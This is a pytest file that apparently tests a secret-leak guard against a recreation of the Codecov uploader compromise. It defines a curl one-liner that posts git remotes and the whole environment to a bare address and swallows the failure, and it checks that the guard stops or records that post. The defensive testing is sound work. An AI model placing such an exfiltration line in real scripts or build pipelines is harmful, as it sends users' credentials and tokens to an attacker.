# SPDX-License-Identifier: MIT
"""I-02, Codecov: the whole environment in one argument of a curl that lives for half a second.

The line was added to an uploader that jobs fetched and piped into a shell; it posted to a bare
address, silently, and its failure was swallowed, so the build went on.
"""

from __future__ import annotations

from collections.abc import Callable

import pytest

from lab import Lab, tokens
from lab.guard import Guarded, assert_leak_stopped
from lab.network import BARE
from lab.tokens import Token

pytestmark = pytest.mark.root

Guard = Callable[..., Guarded]

URL = f"http://{BARE}/upload/v2"
ONE_PAGE = 4096
ARGUMENT = 100 * 1024
"""Below the kernel's limit of 128 KiB for one argument (MAX_ARG_STRLEN)."""
UPLOADER = f"""\
curl -sm 0.5 -d "$(git remote -v 2>/dev/null)<<<<<< ENV $(env | sort)" {URL} || true
echo uploaded
"""


def environment(token: Token) -> dict[str, str]:
    """An environment of a little over 100 KiB; sorted, the secret stands in its middle."""
    padding = {f"{half}_PADDING_{i:03}": "x" * 1000 for half in ("A", "Z") for i in range(51)}
    return {**padding, **token.env}


@pytest.mark.parametrize("mode", ["", "audit", "block"])
def test_the_whole_environment_in_one_argument(lab: Lab, leakstop: Guard, mode: str) -> None:
    token = tokens.home_made("CODECOV_TOKEN")
    command = ["sh", "-c", UPLOADER]
    if not mode:
        assert lab.run(command, env=environment(token)).stdout == "ok\nuploaded\n"
        (body,) = (bytes(seen.plain) for seen in lab.collector.connections)
        assert body.index(token.value.encode()) > ONE_PAGE
        assert len(body) > ARGUMENT
        return
    run = leakstop(command, mode=mode, secrets=[token], env=environment(token))
    assert lab.collector.connections == []
    assert run.stdout.endswith("uploaded\n"), "the script swallows the failure, the guard does not"
    assert_leak_stopped(
        run, token, finding="secret-in-argv", program="curl", destination=f"{BARE}:80"
    )


@pytest.mark.parametrize(
    "offset",
    [
        pytest.param(0, id="first"),
        pytest.param(ONE_PAGE - 20, id="across-a-page"),
        pytest.param(16 * ONE_PAGE - 7, id="across-64-KiB"),
        pytest.param(ARGUMENT - 40, id="last"),
    ],
)
def test_wherever_it_stands_in_the_argument(
    lab: Lab, leakstop: Guard, secret: Token, offset: int
) -> None:
    body = ("x" * offset + secret.value).ljust(ARGUMENT, "x")
    script = lab.directory / "upload.sh"
    script.write_text(f"curl -sm 0.5 -d '{body}' {URL}\n")
    run = leakstop(["sh", str(script)], mode="audit", secrets=[secret])
    assert lab.collector.connections == []
    assert_leak_stopped(
        run, secret, finding="secret-in-argv", program="curl", destination=f"{BARE}:80"
    )


def test_a_large_harmless_argument_passes(lab: Lab, leakstop: Guard, secret: Token) -> None:
    script = lab.directory / "upload.sh"
    script.write_text(f"curl -sm 5 -d '{'x' * ARGUMENT}' http://home.test/upload\n")
    run = leakstop(["sh", str(script)], mode="audit", secrets=[secret])
    assert (run.code, run.findings()) == (0, []), run.stderr
    assert lab.home.bytes_received > ARGUMENT


def test_a_long_command_line_is_recorded_whole(lab: Lab, leakstop: Guard, secret: Token) -> None:
    """The kernel copies the beginning; the rest is read while the process lives."""
    script = lab.directory / "long.sh"
    script.write_text(
        f"tail --pid=$$ -f /dev/null '{'x' * ARGUMENT}{secret.value}' 2>/dev/null & sleep 1\n"
    )
    run = leakstop(["sh", str(script)], mode="audit", secrets=[secret])
    (seen,) = (event for event in run.events("exec") if event["exe"].endswith("/tail"))
    assert seen["hits"] == [{"secret": secret.name, "encoding": "raw"}]
    assert seen["argv"][-1] == "x" * ARGUMENT + f"***{secret.name}***"
    assert not seen["truncated"]
    assert run.shows(secret) == []
